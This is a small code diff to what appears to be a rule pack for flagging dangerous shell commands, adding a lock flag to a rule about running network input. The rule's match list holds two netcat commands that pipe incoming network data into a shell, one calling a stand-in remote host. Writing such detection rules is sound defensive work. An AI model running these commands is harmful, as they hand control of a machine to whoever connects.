@@ -69,6 +69,7 @@ export const NETWORK_PACK = pack({
       score: { d1: 3, d2: 2, d3: 3 },
       category: 14,
       reason: 'Runs what comes in over a network connection.',
+      lock: true,
       match: [
         'nc 203.0.113.1 4444 | sh',
         'nc -l 4444 | bash',
